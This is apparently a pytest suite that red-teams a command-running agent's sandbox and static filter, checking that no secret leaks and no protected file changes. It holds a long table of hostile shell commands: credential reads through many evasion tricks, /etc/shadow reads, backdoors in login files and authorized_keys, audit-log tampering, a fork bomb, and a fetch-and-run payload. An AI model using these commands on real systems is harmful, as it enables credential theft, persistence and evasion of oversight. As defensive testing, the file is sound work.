"""The kernel floor, tested by its effects: did a secret leak, did a protected file change.

Every attempt runs end to end through the real pipeline (gate → audit → sandboxed tool) as a
REMOTE caller of an agent in `mode: bypass`, against a fixture home whose secrets carry random
markers. The whole table runs twice:

- "static+kernel": the product as shipped;
- "kernel only": the static floor's reading of command text switched off by the gate's
  test-only flag, so nothing but the kernel (mount namespace, capabilities, seccomp, cgroup)
  stands between the command and the files. Every attempt marked KERNEL must hold here too.

Attempts marked STATIC are the cases the kernel cannot cover (a `.env` deep in a project, a
non-secret /etc file, a payload piped into a shell running at all): they run only in the first
pass, and the README lists them as static-only.

After each attempt: no marker in the result, every protected file byte-identical, no protected
path created, the audit log's earlier lines untouched and its chain valid. Attempts are built so
that a failure of the floor would only ever touch the fixture home and /tmp, never the host.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import secrets
import stat
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import pytest

from cmdop.adapters.audit_log import AuditLog
from cmdop.adapters.config_file import AgentConfig
from cmdop.adapters.gatekeeper import Gatekeeper
from cmdop.adapters.launcher import sandbox_for_agent
from cmdop.core.calls import Caller, CallerKind, ToolCall
from cmdop.core.settings import Settings
from cmdop.pipeline import CallContext, handle_call

pytestmark = pytest.mark.seccomp

MARK = secrets.token_hex(12)
KERNEL, STATIC = "kernel", "static"

# Files in the fixture home: (relative path, content). The marker in each proves a leak.
SECRETS = {
    ".ssh/id_rsa": f"-----BEGIN KEY----- ssh-{MARK}",
    ".ssh/authorized_keys": f"ssh-ed25519 AAAA owner-{MARK}",
    ".cmdop/ssh_workspaces.json": json.dumps({"active": "w", "workspaces": [
        {"name": "w", "api_key": f"key-{MARK}"}]}),
    ".gnupg/private-keys-v1.d/k.key": f"gpg-{MARK}",
    ".config/cmdop/config.yaml": f"# cfg-{MARK}\n",
}
# Login files: readable (no marker needed), but must never change.
LOGIN_FILES = {".bashrc": "# bashrc\n", ".profile": "# profile\n", ".gitconfig": "[user]\n\tname = o\n"}
# Paths that must never come into existence.
PAYLOAD_FLAG = Path(f"/tmp/cmdop-payload-ran-{secrets.token_hex(8)}")
MUST_NOT_EXIST = (".bash_profile", ".bash_login", ".zshrc", ".zshenv", ".ssh/authorized_keys2",
                  ".config/systemd/user/evil.service", ".config/git/config", ".forward",
                  ".local/share/systemd/user/evil.service", ".config/cmdop/permissions.yaml.new")
# ~/proj/app/.env: its own marker, since only the static floor keeps it (the kernel does not
# know a project's .env from any other file): checked in the "static+kernel" pass only.
STATIC_MARK = secrets.token_hex(12)
STATIC_SECRET = f"DB_PASSWORD=env-{STATIC_MARK}"


@dataclass
class Agent:
    home: Path
    settings: Settings
    ctx: CallContext
    http_port: int
    pass_name: str

    def run(self, command: str, cwd: str | None = None, timeout_ms: int = 20_000) -> dict[str, Any]:
        tool_input: dict[str, Any] = {"command": command, "timeout_ms": timeout_ms}
        if cwd is not None:
            tool_input["cwd"] = cwd
        out = handle_call(ToolCall("execute_command", tool_input, cwd=str(self.home / "proj")),
                          Caller(CallerKind.REMOTE, user="red-team", hostname="elsewhere"), self.ctx)
        assert isinstance(out, dict)
        return out


class _Payload(http.server.BaseHTTPRequestHandler):
    """Serves a script that tries to do damage, and drops a harmless flag proving it ran."""

    body = b""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: Any) -> None:
        pass


def _write(path: Path, text: str, mode: int = 0o600) -> None:
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    path.write_text(text)
    path.chmod(mode)


@pytest.fixture(scope="module", params=["static+kernel", "kernel only"])
def agent(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Agent]:
    home = tmp_path_factory.mktemp("effects") / "home"
    home.mkdir()
    for rel, text in SECRETS.items():
        _write(home / rel, text)
    for rel, text in LOGIN_FILES.items():
        _write(home / rel, text, 0o644)
    _write(home / "proj" / "app" / ".env", STATIC_SECRET)
    _write(home / "proj" / "README", "hello\n", 0o644)
    (home / ".config" / "systemd").mkdir(parents=True)
    env = {"HOME": str(home)}
    settings = Settings.from_env(env, str(home))
    _write(Path(settings.permissions_file), "version: 1\nmode: bypass\nrules: []\n")
    _Payload.body = (f"cat ~/.ssh/id_rsa; echo pwned >> ~/.bashrc; touch ~/.bash_profile; "
                     f"touch {PAYLOAD_FLAG}\n").encode()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Payload)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)          # what `~` means to the commands' shell
    kernel_only = request.param == "kernel only"
    ctx = CallContext(settings=settings,
                      gatekeeper=Gatekeeper(settings, unsafe_test_only_static_floor_off=kernel_only),
                      audit=AuditLog(settings.state_dir),
                      sandbox=sandbox_for_agent(settings, AgentConfig(call_pids_max=256)),
                      hostname="fixture")
    enforcement = ctx.sandbox.enforcement()
    if enforcement["seccomp"] != "filter" or enforcement["kernel_floor"] == "static only":
        ctx.close()
        if os.geteuid() == 0:      # root can always build a mount namespace: this is a bug
            pytest.fail(f"no kernel floor for a root agent: {enforcement}")
        pytest.skip(f"no kernel floor on this machine: {enforcement}")
    try:
        yield Agent(home, settings, ctx, server.server_address[1], request.param)
    finally:
        ctx.close()
        server.shutdown()
        server.server_close()
        PAYLOAD_FLAG.unlink(missing_ok=True)
        if old_home is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = old_home


def _digest(path: Path) -> str:
    try:
        st = path.lstat()
    except FileNotFoundError:
        return "missing"
    if stat.S_ISDIR(st.st_mode):
        return "dir:" + ",".join(sorted(p.name for p in path.iterdir()))
    return hashlib.sha256(path.read_bytes()).hexdigest() + f":{stat.S_IMODE(st.st_mode):o}"


def _snapshot(a: Agent) -> dict[str, str]:
    paths = [*SECRETS, *LOGIN_FILES, *MUST_NOT_EXIST, ".ssh", ".cmdop", ".gnupg", ".config/cmdop",
             ".config/systemd", "."]
    snap = {rel: _digest(a.home / rel) for rel in paths}
    state = Path(a.settings.state_dir)
    snap.update({f"state/{p.name}": _digest(p) for p in sorted(state.iterdir())
                 if p.name not in ("audit.log", "audit.head")})
    return snap


def _shadow_lines() -> list[str]:
    try:
        return [ln for ln in Path("/etc/shadow").read_text().splitlines() if len(ln) > 12]
    except OSError:
        return []


# (id, covered by, command). `@S@` is the state dir, `@P@` the loopback payload server's port,
# `@H@` the fixture home, `@M@` the marker. Each names the red-team class it stands for.
ATTEMPTS: list[tuple[str, str, str]] = [
    # reading credentials, plainly and through every class of disguise
    ("plain-read", KERNEL, "cat ~/.ssh/id_rsa ~/.cmdop/ssh_workspaces.json"),
    ("for-list", KERNEL, "for f in ~/.ssh/id_rsa ~/.cmdop/*; do cat $f; done"),
    ("select-list", KERNEL, "select f in ~/.ssh/id_rsa; do cat $f; break; done <<< 1"),
    ("param-strip", KERNEL, "X=x$HOME/.ssh/id_rsa; cat ${X#x}"),
    ("param-offset", KERNEL, "X=--$HOME/.ssh; cat ${X:2}/id_rsa"),
    ("param-indirect", KERNEL, "r=HOME; cat ${!r}/.ssh/id_rsa"),
    ("param-append", KERNEL, "X=~/.s; X+=sh; cat $X/id_rsa"),
    ("printf-v", KERNEL, "printf -v p '%s/.%s/id_rsa' ~ ssh; cat $p"),
    ("ifs-split", KERNEL, "IFS=,; x=\"cat,$HOME/.ssh/id_rsa\"; $x"),
    ("home-moved", KERNEL, "HOME=/; cd; cd \"$OLDPWD\" 2>/dev/null; cat @H@/.ssh/id_rsa"),
    ("oldpwd", KERNEL, "cd ~/.ssh; cd /; cd - >/dev/null; cat id_rsa"),
    ("pushd", KERNEL, "pushd ~/.ssh >/dev/null; cd /; cat ~1/id_rsa"),
    ("env-C", KERNEL, "env -C ~/.ssh cat id_rsa"),
    ("chroot", KERNEL, "chroot / cat @H@/.ssh/id_rsa"),
    ("proc-self-root", KERNEL, "cat /proc/self/root@H@/.ssh/id_rsa"),
    ("proc-cwd", KERNEL, "cd ~/.ssh; cat /proc/$$/cwd/id_rsa"),
    ("proc-fd", KERNEL, "exec 3<~/.ssh/id_rsa; cat /proc/self/fd/3"),
    ("proc-1-root", KERNEL, "cat /proc/1/root@H@/.ssh/id_rsa"),
    ("proc-ppid-root", KERNEL, "cat /proc/$PPID/root@H@/.ssh/id_rsa /proc/$PPID/environ"),
    ("symlink-dotdot", KERNEL, "d=$(mktemp -d); ln -s ~/.ssh $d/l; cat $d/l/../.ssh/id_rsa $d/l/id_rsa"),
    ("hardlink", KERNEL, "d=$(mktemp -d -p ~/proj); ln ~/.ssh/id_rsa $d/k && cat $d/k"),
    ("brace-range", KERNEL, "cat ~/.ss{g..i}/id_rsa ~/.{a..z}sh/id_rsa 2>/dev/null"),
    ("brace-step", KERNEL, "cat ~/.s{r..t..1}h/id_rsa"),
    ("dotglob", KERNEL, "shopt -s dotglob; cat ~/*/id_rsa ~/*/ssh_workspaces.json"),
    ("globignore", KERNEL, "GLOBIGNORE=x; cat ~/.s*/*"),
    ("extglob", KERNEL, "shopt -s extglob; cat ~/.@(ssh|cmdop)/*"),
    ("file-url", KERNEL, "curl -s file://$HOME/%2essh/id_rsa"),
    ("glued-cp", KERNEL, "cp -vt/tmp ~/.ssh/id_rsa && cat /tmp/id_rsa"),
    ("sed-e", KERNEL, "echo | sed 'e cat '$HOME'/.ssh/id_rsa'"),
    ("perl-system", KERNEL, "perl -e 'system \"cat $ENV{HOME}/.ssh/id_rsa\"'"),
    ("xargs-sh", KERNEL, "echo ~/.ssh/id_rsa | xargs sh -c 'cat $0'"),
    ("function", KERNEL, "f() { cat ~/.$1/id_rsa; }; f ssh"),
    ("coproc", KERNEL, "coproc c { cat ~/.ssh/id_rsa; }; cat <&${c[0]}"),
    ("named-pipe", KERNEL, "d=$(mktemp -d); mkfifo $d/p; (cat ~/.ssh/id_rsa > $d/p &); cat $d/p"),
    ("heredoc-python", KERNEL, "python3 <<'EOF'\nimport os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())\nEOF"),
    ("awk-system", KERNEL, "awk 'BEGIN { system(\"cat \" ENVIRON[\"HOME\"] \"/.ssh/id_rsa\") }'"),
    ("alias", KERNEL, "shopt -s expand_aliases\nalias c='cat ~/.ssh/id_rsa'\nc"),
    ("eval-rev", KERNEL, "eval \"cat ~/$(rev <<< hss.)/id_rsa\""),
    ("cwd-mismatch", KERNEL, "CWD:@H@|cat .ssh/id_rsa .cmdop/ssh_workspaces.json"),
    ("find-exec", KERNEL, "find ~ -name id_rsa -exec cat {} +"),
    ("tar-home", KERNEL, "tar cf - -C ~ . 2>/dev/null | tar xOf - 2>/dev/null"),
    ("grep-home", KERNEL, "grep -r . ~ 2>/dev/null"),
    ("gpg-and-config", KERNEL, "cat ~/.gnupg/private-keys-v1.d/* ~/.config/cmdop/*"),
    ("shadow", KERNEL, "cat /etc/shadow /etc/gshadow; cat /etc/shadow- 2>/dev/null"),
    ("ssh-host-keys", KERNEL, "cat /etc/ssh/ssh_host_*_key 2>&1"),
    # writing login files, creating them, and other programs' implicit writes
    ("write-bashrc", KERNEL, "echo evil >> ~/.bashrc; sed -i s/bashrc/evil/ ~/.bashrc"),
    ("create-bash-profile", KERNEL, "echo evil > ~/.bash_profile; touch ~/.zshrc ~/.zshenv ~/.forward"),
    ("rename-over-profile", KERNEL, "echo evil > /tmp/p$$; mv /tmp/p$$ ~/.profile; cp /tmp/p$$ ~/.profile"),
    ("replace-home-dotdir", KERNEL, "mv ~/.ssh ~/.ssh.old; mkdir -p ~/.ssh; echo x > ~/.ssh/authorized_keys2"),
    ("authorized-keys", KERNEL, "echo ssh-rsa evil >> ~/.ssh/authorized_keys; echo x > ~/.ssh/authorized_keys2"),
    ("glued-sort", KERNEL, "echo evil | sort -uo ~/.bashrc"),
    ("backup-suffix", KERNEL, "echo x > ~/proj/.bash; cp -b -S _profile ~/proj/.bash ~/.bash"),
    ("git-global", KERNEL, "git config --global core.pager 'sh -c id'; git config --global --list"),
    ("git-config-dir", KERNEL, "mkdir -p ~/.config/git && echo '[core]' > ~/.config/git/config"),
    ("user-unit", KERNEL, "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service"),
    ("user-unit-share", KERNEL, "mkdir -p ~/.local/share/systemd/user && echo x > ~/.local/share/systemd/user/evil.service"),
    ("cmdop-permissions-add", KERNEL, "cd /work 2>/dev/null; python3 -m cmdop permissions add 'execute_command' allow"),
    ("policy-write", KERNEL, "printf 'version: 1\\nmode: bypass\\n' > ~/.config/cmdop/permissions.yaml.new"),
    # the agent's own state: the audit log, its chain head and seal key
    ("audit-append", KERNEL, "echo '{\"seq\": 999}' >> @S@/audit.log; ls -la @S@"),
    ("audit-rewrite", KERNEL, "sed -i 1d @S@/audit.log; truncate -s 0 @S@/audit.log; rm -f @S@/*"),
    ("audit-read-key", KERNEL, "cat @S@/* 2>&1 | head -c 2000"),
    # the kernel, cgroups and the disks
    ("core-pattern", KERNEL, "cat /proc/sys/kernel/printk_ratelimit > /proc/sys/kernel/printk_ratelimit"),
    ("mknod-block", KERNEL, "mknod /tmp/sda-$$ b 8 0 && head -c 512 /tmp/sda-$$ | od | head -2; rm -f /tmp/sda-$$"),
    ("block-device", KERNEL, "for d in /dev/[vsh]d[a-z] /dev/nvme0n1 /dev/xvda /dev/loop0; do "
                             "[ -b $d ] && head -c 512 $d | wc -c; done; true"),
    ("payload-effects", KERNEL, "f=$(mktemp); curl -s http://127.0.0.1:@P@/x -o $f; bash $f"),
    # what only the static floor catches (the kernel cannot tell these from ordinary work)
    ("project-env", STATIC, "cat ~/proj/app/.env"),
    ("etc-hostname", STATIC, "cat /etc/hostname"),
    ("pipe-to-shell", STATIC, "curl -s http://127.0.0.1:@P@/x | sh"),
]


RAN: dict[str, int] = {}     # attempts this process ran, per pass (each left an audit line)


def _expand(a: Agent, text: str) -> str:
    for token, value in (("@S@", a.settings.state_dir), ("@P@", str(a.http_port)),
                         ("@H@", str(a.home)), ("@M@", MARK)):
        text = text.replace(token, value)
    return text


@pytest.mark.parametrize("name,covered,command", ATTEMPTS, ids=[a[0] for a in ATTEMPTS])
def test_attempt_has_no_effect(agent: Agent, name: str, covered: str, command: str) -> None:
    if covered == STATIC and agent.pass_name == "kernel only":
        pytest.skip("static-only: the kernel cannot tell this from ordinary work (README)")
    before = _snapshot(agent)
    audit = Path(agent.settings.audit_file)
    audit_before = audit.read_bytes() if audit.exists() else b""
    cwd = None
    command = _expand(agent, command)
    if command.startswith("CWD:"):
        where, command = command[4:].split("|", 1)
        cwd = where
    PAYLOAD_FLAG.unlink(missing_ok=True)
    out = agent.run(command, cwd=cwd)
    RAN[agent.pass_name] = RAN.get(agent.pass_name, 0) + 1
    text = json.dumps(out)
    assert MARK not in text, f"{name}: a marker leaked: {text[:3000]}"
    if agent.pass_name == "static+kernel":
        assert STATIC_MARK not in text, f"{name}: the project's .env leaked: {text[:3000]}"
        if name == "pipe-to-shell":
            assert not PAYLOAD_FLAG.exists(), f"{name}: a payload piped from the loopback server ran"
    for line in _shadow_lines():
        assert line not in text, f"{name}: /etc/shadow leaked"
    after = _snapshot(agent)
    changed = {k: (before[k], after.get(k)) for k in before if before[k] != after.get(k)}
    assert not changed, f"{name}: protected paths changed: {changed}\n{text[:2000]}"
    assert audit.read_bytes().startswith(audit_before), f"{name}: earlier audit lines changed"


def test_audit_chain_is_intact_after_every_attempt(agent: Agent) -> None:
    """Runs after the table (file order): the log verifies, every attempt left its line. The
    count is of the attempts this process ran: xdist may give part of the table to another
    worker, whose agent (its own instance of the fixture) has its own log."""
    from cmdop.adapters.audit_reader import verify

    verify(agent.settings.state_dir)        # raises AuditIntegrityError on any break
    lines = Path(agent.settings.audit_file).read_text().splitlines()
    assert len(lines) >= RAN.get(agent.pass_name, 0)


def test_proc_sys_sys_and_dev_mount_flags(agent: Agent) -> None:
    """Checked on the mount flags, not by writing the host's tunables."""
    out = agent.run("cat /proc/self/mountinfo")
    mounts: dict[str, set[str]] = {}
    for line in out["stdout"].splitlines():
        fields = line.split()
        mounts[fields[4]] = set(fields[5].split(","))   # the last mount at a point wins
    assert "ro" in mounts["/proc/sys"], mounts.get("/proc/sys")
    below_sys = {m: f for m, f in mounts.items() if m == "/sys" or m.startswith("/sys/")}
    assert below_sys and all("ro" in f for f in below_sys.values()), below_sys
    assert "nodev" in mounts["/dev"], mounts["/dev"]
    null = agent.run("echo ok > /dev/null && head -c 4 /dev/urandom | wc -c")
    assert null["exit_code"] == 0 and null["stdout"].strip() == "4", null


@pytest.fixture
def loop_device(tmp_path: Path) -> Iterator[str]:
    """A real block device with data on it: a loop device over a 1 MiB file (root only)."""
    import shutil
    import subprocess

    if os.geteuid() != 0 or not shutil.which("losetup"):
        pytest.skip("needs root and losetup to make a block device")
    backing = tmp_path / "disk.img"
    backing.write_bytes(os.urandom(1 << 20))
    made = subprocess.run(["losetup", "-f", "--show", str(backing)], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"losetup: {made.stderr.strip()}")
    dev = made.stdout.strip()
    try:
        yield dev
    finally:
        subprocess.run(["losetup", "-d", dev], capture_output=True)


def test_block_devices_cannot_be_opened_or_made(agent: Agent, loop_device: str) -> None:
    # Outside, as root, it opens and reads (so the refusal inside is the sandbox's doing).
    with open(loop_device, "rb") as f:
        assert len(f.read(1)) == 1
    out = agent.run(f"head -c 1 {loop_device} | wc -c; echo x | dd of={loop_device} 2>&1; "
                    "mknod /tmp/blk-$$ b 7 0; echo rc=$?")
    if out.get("error") == "permission_denied":
        assert agent.pass_name == "static+kernel", out    # the kernel-only pass must run it
        return
    assert out["stdout"].splitlines()[0].strip() == "0", out
    assert "Permission denied" in out["stdout"] + out["stderr"], out
    assert "rc=1" in out["stdout"] and "Operation not permitted" in out["stderr"], out


def test_a_command_cannot_leave_its_cgroup(agent: Agent) -> None:
    out = agent.run("for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do "
                    "[ -e $f ] && echo $$ > $f && echo moved-to-$f; done; true")
    assert out["cgroup"] is True and "moved-to" not in out["stdout"], out
    assert "Read-only file system" in out["stderr"], out


def test_fork_bomb_stops_at_pids_max_and_leaves_nothing(agent: Agent) -> None:
    tag = 3000 + int(MARK[:4], 16) % 999
    out = agent.run(f"for i in $(seq 3000); do sleep {tag} & done; echo launched", timeout_ms=4000)
    assert out["cgroup"] is True and out["limit_hit"] == "pids", {k: out[k] for k in out if k != "stderr"}
    left = [p for p in os.listdir("/proc") if p.isdigit() and _cmdline(p) == f"sleep {tag}"]
    assert left == []


def test_setsid_escapee_is_gone_when_the_call_returns(agent: Agent) -> None:
    tag = 600 + int(MARK[4:8], 16) % 99
    out = agent.run(f"setsid sleep {tag} </dev/null >/dev/null 2>&1 & nohup sleep {tag + 1} "
                    f">/dev/null 2>&1 & echo started")
    assert out["stdout"] == "started\n" and out["cgroup"] is True, out
    left = [p for p in os.listdir("/proc") if p.isdigit() and _cmdline(p) in
            (f"sleep {tag}", f"sleep {tag + 1}")]
    assert left == []


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
    except OSError:
        return ""


ADMIN = [
    ("apt-simulate", "apt-get install --simulate -qq coreutils >/dev/null && echo ok"),
    ("systemctl", "systemctl status --no-pager >/dev/null 2>&1; echo rc=$?"),
    ("journalctl", "journalctl -n 5 --no-pager >/dev/null 2>&1; echo rc=$?"),
    ("ip-addr", "ip addr | grep -q 'inet ' && echo ok"),
    ("ss", "ss -tln >/dev/null && echo ok"),
    ("git", "cd ~/proj && git init -q g && cd g && git -c user.email=a@b -c user.name=n "
            "commit -q --allow-empty -m x && git log --oneline | wc -l"),
    ("python", "python3 -c 'print(6*7)'"),
    ("tar", "cd ~/proj && tar czf t.tgz README && tar tzf t.tgz"),
    ("write-var-opt-srv", "for d in /var/tmp /opt /srv ~/proj; do f=$d/cmdop-effect-$$; "
                          "echo x > $f && rm $f && echo ok-$d; done"),
    ("curl-loopback", "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:@P@/x"),
    ("read-project", "cat ~/proj/README"),
    ("docker", "command -v docker >/dev/null && docker ps >/dev/null 2>&1; echo rc=$?"),
]
ADMIN_EXPECT = {"apt-simulate": "ok", "ip-addr": "ok", "ss": "ok", "git": "1", "python": "42",
                "tar": "README", "curl-loopback": "200", "read-project": "hello"}


@pytest.mark.parametrize("name,command", ADMIN, ids=[a[0] for a in ADMIN])
def test_ordinary_administration_still_works(agent: Agent, name: str, command: str) -> None:
    if agent.pass_name == "kernel only":
        pytest.skip("ordinary work is shown once, with the product's own gate")
    out = agent.run(_expand(agent, command), timeout_ms=60_000)
    assert out.get("error") is None, out
    if name in ADMIN_EXPECT:
        assert ADMIN_EXPECT[name] in out["stdout"], out
    elif name == "write-var-opt-srv":
        for d in ("/var/tmp", "/opt", "/srv"):
            assert f"ok-{d}" in out["stdout"], out
        assert f"ok-{agent.home}/proj" in out["stdout"], out
    else:
        assert out["exit_code"] == 0, out


def test_bounding_set_and_what_dropping_sys_admin_costs(agent: Agent) -> None:
    """The measurement behind the capability table: inside, no dropped capability is in the
    bounding set, and what needs CAP_SYS_ADMIN fails (each is harmless if it succeeded: the
    hostname is set to itself, the xattr lands on a temp file)."""
    from cmdop.core.capabilities import DROPPED

    if os.geteuid() != 0:
        pytest.skip("the bounding set is trimmed for a root agent")
    if agent.pass_name == "kernel only":
        pytest.skip("measured once")
    out = agent.run("grep CapBnd /proc/self/status; hostname \"$(hostname)\"; echo host=$?; "
                    "f=$(mktemp); python3 -c 'import os,sys; os.setxattr(sys.argv[1], "
                    "\"trusted.cmdop\", b\"1\")' $f; echo xattr=$?")
    bnd = int(out["stdout"].split()[1], 16)
    assert all(not bnd & (1 << cap) for cap in DROPPED), hex(bnd)
    assert bnd & (1 << 0) and bnd & (1 << 1) and bnd & (1 << 12), "CHOWN, DAC_OVERRIDE, NET_ADMIN kept"
    import tempfile

    with tempfile.NamedTemporaryFile(dir="/tmp") as f:    # outside, as root, it works
        os.setxattr(f.name, "trusted.cmdop", b"1")
    for probe in ("host", "xattr"):
        assert f"{probe}=0" not in out["stdout"], out
